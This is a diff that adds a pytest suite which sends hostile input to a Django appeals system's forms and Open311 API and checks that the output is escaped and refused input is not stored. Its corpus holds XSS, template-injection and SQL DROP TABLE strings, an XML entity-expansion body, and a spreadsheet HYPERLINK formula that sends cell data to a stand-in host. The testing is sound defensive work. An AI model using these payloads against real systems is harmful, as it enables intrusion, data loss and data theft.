@@ -1,0 +1,262 @@
+"""Issue 16, done-when: a hostile corpus sent to every public and staff form and API field.
+Each answer is below 500; a refused request stores nothing (no appeal, no event, no key); what
+is stored is normalised (core/text.py); and what is shown is escaped or neutralised: in HTML
+(staff and public pages), JSON and XML (Open311), Excel (core/sheets.cell_safe) and PDF text.
+
+One test per entry path, looping over the corpus (a district per test, not per string), so the
+whole file stays within seconds; run it on PostgreSQL too (DATABASE_URL)."""
+
+import json
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from minxin.cases.models import Appeal, AppealEvent
+from minxin.cases.workflow import AppealStatus
+from minxin.core.sheets import cell_safe, pdf_text, row_safe
+from minxin.core.text import text_normalise
+from minxin.metrics.exports import ledger_row
+from minxin.open311.models import IdempotencyKey, Open311Request
+from minxin.open311.services import api_key_create
+from minxin.suggestions.models import Suggestion, SuggestionField
+from tests.builders import District, appeal_in
+
+XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+TEMPLATE = "{{ request.user }}{% debug %}${7*7}#{7*7}"
+SQL = "' OR 1=1; DROP TABLE cases_appeal; --"
+INVISIBLE = "维修\x00\u202egpj.exe\u200b\ufeff\x1b"
+GB18030 = "𠀀䶮𡃁〇"  # outside GBK: CJK ext. A and B
+FORMULA = '=HYPERLINK("http://e.vil/?"&A2,"详情")'
+CORPUS = [XSS, TEMPLATE, SQL, INVISIBLE, GB18030, FORMULA, "+1-2", "@SUM(A1)", "-1"]
+HUGE = "长" * (1024 * 1024)  # 1 MB of characters: always over a field's limit
+PHONE = "13812345678"
+
+
+@contextmanager
+def _stored_or_nothing(before: int) -> Iterator[list[object]]:
+    """The response goes in the list; then: < 500, and a refusal stored nothing."""
+    box: list[object] = []
+    events = AppealEvent.objects.count()
+    yield box
+    response = box[0]
+    status = response.status_code  # type: ignore[attr-defined]
+    assert status < 500, status
+    if status >= 400:
+        assert Appeal.objects.count() == before
+        assert AppealEvent.objects.count() == events
+
+
+def _clean(appeal: Appeal) -> None:
+    for text in (appeal.title, appeal.content, appeal.place_text, appeal.appellant_name):
+        assert text_normalise(text) == text
+
+
+def _escaped(html: str) -> None:
+    assert "<script>alert" not in html and "<img src=x" not in html
+    assert "\x00" not in html and "\u202e" not in html
+
+
+def _shown_safely(client: Client, district: District, appeal: Appeal) -> None:
+    """The appeal's text on the staff page, in the ledger, and as PDF text."""
+    _clean(appeal)
+    staff = Client()
+    staff.force_login(district.user("dispatcher"))
+    page = staff.get(reverse("cases:appeal_detail", args=[appeal.pk]))
+    assert page.status_code == 200
+    _escaped(page.content.decode())
+    for cell in row_safe(ledger_row(appeal)):
+        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert "<" not in pdf_text(appeal.title)
+
+
+@pytest.mark.parametrize("field", ["title", "content", "place_text", "appellant_name"])
+def test_citizen_form(client: Client, district: District, field: str) -> None:
+    for value in [*CORPUS, HUGE]:
+        form = {"kind": "complaint", "title": "路灯", "content": "路灯", "appellant_phone": PHONE}
+        form[field] = value
+        before = Appeal.objects.count()
+        with _stored_or_nothing(before) as box:
+            box.append(response := client.post(reverse("citizen:submit"), form))
+        if response.status_code == 302:
+            _shown_safely(client, district, Appeal.objects.latest("id"))
+        else:
+            _escaped(response.content.decode())  # the form again, with what was typed
+
+
+@pytest.mark.parametrize("field", ["title", "content", "nickname"])
+def test_board_form(client: Client, district: District, field: str) -> None:
+    for value in [*CORPUS, HUGE]:
+        form = {"kind": "complaint", "title": "路灯", "content": "路灯不亮", "nickname": "居民"}
+        form[field] = value
+        with _stored_or_nothing(Appeal.objects.count()) as box:
+            box.append(response := client.post(reverse("board:post_new"), form))
+        if response.status_code == 302:
+            _shown_safely(client, district, Appeal.objects.latest("id"))
+        else:
+            _escaped(response.content.decode())
+
+
+@pytest.mark.parametrize("field", ["title", "content", "place_text", "appellant_name"])
+def test_hotline_console(client: Client, district: District, field: str) -> None:
+    client.force_login(district.user("call_taker"))
+    for value in [*CORPUS, HUGE]:
+        form = {
+            "kind": "complaint",
+            "urgency": "normal",
+            "title": "路灯",
+            "content": "路灯不亮",
+            "appellant_phone": PHONE,
+        }
+        form[field] = value
+        with _stored_or_nothing(Appeal.objects.count()) as box:
+            box.append(response := client.post(reverse("intake:hotline"), form))
+        if response.status_code == 302:
+            _shown_safely(client, district, Appeal.objects.latest("id"))
+        else:
+            _escaped(response.content.decode())
+
+
+def test_a_handlers_note_and_a_citizens_rating_comment(client: Client, district: District):
+    appeal = appeal_in(district, AppealStatus.IN_PROGRESS)
+    handler = Client()
+    handler.force_login(district.user("handler"))
+    url = reverse("cases:appeal_act", args=[appeal.pk, "note"])
+    for value in [*CORPUS, HUGE]:
+        version = Appeal.objects.get(pk=appeal.pk).version
+        with _stored_or_nothing(Appeal.objects.count()) as box:
+            box.append(response := handler.post(url, {"version": version, "reason": value}))
+        _escaped(handler.get(reverse("cases:appeal_detail", args=[appeal.pk])).content.decode())
+        if response.status_code >= 400:
+            assert Appeal.objects.get(pk=appeal.pk).version == version
+    for reason in AppealEvent.objects.filter(appeal=appeal).values_list("reason", flat=True):
+        assert text_normalise(reason) == reason
+
+    resolved = appeal_in(district, AppealStatus.RESOLVED)
+    client.post(
+        reverse("citizen:track"),
+        {"tracking_number": resolved.tracking_number, "query_code": resolved.query_code},
+    )
+    rate = reverse("citizen:rate", args=[resolved.tracking_number])
+    for value in [HUGE, *CORPUS]:  # the first that is accepted rates the appeal
+        version = Appeal.objects.get(pk=resolved.pk).version
+        response = client.post(
+            rate, {"satisfaction": "satisfied", "comment": value, "version": version}
+        )
+        assert response.status_code < 500
+    page = client.get(reverse("citizen:track_detail", args=[resolved.tracking_number]))
+    _escaped(page.content.decode())
+
+
+@pytest.mark.parametrize("field", ["title", "content", "proposer_name"])
+def test_suggestion_form(client: Client, district: District, field: str) -> None:
+    for value in [*CORPUS, HUGE]:
+        form = {
+            "field": SuggestionField.values[0],
+            "title": "建议",
+            "content": "增设公交站",
+            "proposer_phone": PHONE,
+        }
+        form[field] = value
+        before = Suggestion.objects.count()
+        response = client.post(reverse("suggestions:submit"), form)
+        assert response.status_code < 500
+        if response.status_code >= 400:
+            assert Suggestion.objects.count() == before
+            _escaped(response.content.decode())
+    for s in Suggestion.objects.all():
+        assert text_normalise(s.title) == s.title and text_normalise(s.content) == s.content
+
+
+# --- Open311 --------------------------------------------------------------------------------
+
+
+def _feed_safe(client: Client, number: str) -> None:
+    body = client.get(f"/open311/v2/requests/{number}.json")
+    assert body.status_code == 200
+    assert json.loads(body.content)[0]["service_request_id"] == number
+    assert "\x00" not in body.content.decode() and "\u202e" not in body.content.decode()
+    root = ET.fromstring(client.get(f"/open311/v2/requests/{number}.xml").content)  # noqa: S314
+    assert root.find("request/service_request_id").text == number  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize(
+    "field", ["description", "address_string", "last_name", "first_name", "media_url"]
+)
+def test_open311_fields(client: Client, district: District, field: str) -> None:
+    key = api_key_create(name="客户端")[1]
+    for value in [*CORPUS, HUGE[:70_000]]:
+        data = {
+            "api_key": key,
+            "service_code": str(district.category.pk),
+            "address_string": "北门",
+            "description": "垃圾",
+            field: value,
+        }
+        for kind in ("json", "form"):
+            before = Appeal.objects.count()
+            with _stored_or_nothing(before) as box:
+                if kind == "json":
+                    response = client.post(
+                        "/open311/v2/requests.json",
+                        json.dumps(data),
+                        content_type="application/json",
+                    )
+                else:
+                    response = client.post("/open311/v2/requests.json", data)
+                box.append(response)
+            json.loads(response.content)  # always a JSON document, errors included
+            if response.status_code == 200:
+                assert Open311Request.objects.count() == Appeal.objects.count()
+                _feed_safe(client, response.json()[0]["service_request_id"])
+                _clean(Appeal.objects.latest("id"))
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "status"),
+    [
+        (b'{"service_code": ', "application/json", 400),
+        (b"[1, 2]", "application/json", 400),
+        (b'{"description": {"nested": [1]}}', "application/json", 400),
+        (b"[" * 60_000, "application/json", 400),  # deep nesting: not a RecursionError
+        (b'{"lat": 1e999, "long": 1}', "application/json", 400),
+        (b'{"a": "' + b"x" * 70_000 + b'"}', "application/json", 413),
+        (b"\xff\xfe\x00\x01", "application/json", 400),
+        (
+            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
+            b"<r>&b;</r>",
+            "text/xml",
+            415,
+        ),
+        (b"<service_request><description>x</description>", "application/xml", 415),
+        ("description=𠀀䶮&service_code=1".encode("gb18030"), "text/plain", 415),
+    ],
+)
+def test_open311_malformed_bodies(client: Client, district: District, body, content_type, status):
+    key = api_key_create(name="客户端")[1]
+    response = client.post(
+        f"/open311/v2/requests.json?api_key={key}", body, content_type=content_type
+    )
+    assert response.status_code == status, response.content[:200]
+    assert not Appeal.objects.exists() and not IdempotencyKey.objects.exists()
+    json.loads(response.content)
+
+
+def test_open311_accepts_gb18030(client: Client, district: District) -> None:
+    key = api_key_create(name="客户端")[1]
+    code = district.category.pk
+    body = f"api_key={key}&service_code={code}&description={GB18030}&lat=28&long=112"
+    response = client.post(
+        "/open311/v2/requests.json",
+        body,  # the client encodes it in the declared charset
+        content_type="application/x-www-form-urlencoded; charset=gb18030",
+    )
+    assert response.status_code == 200
+    assert Appeal.objects.get().content == GB18030
+
+
+def test_the_ledger_neutralises_formulas() -> None:
+    assert cell_safe(text_normalise("\u200b" + FORMULA)) == "'" + FORMULA
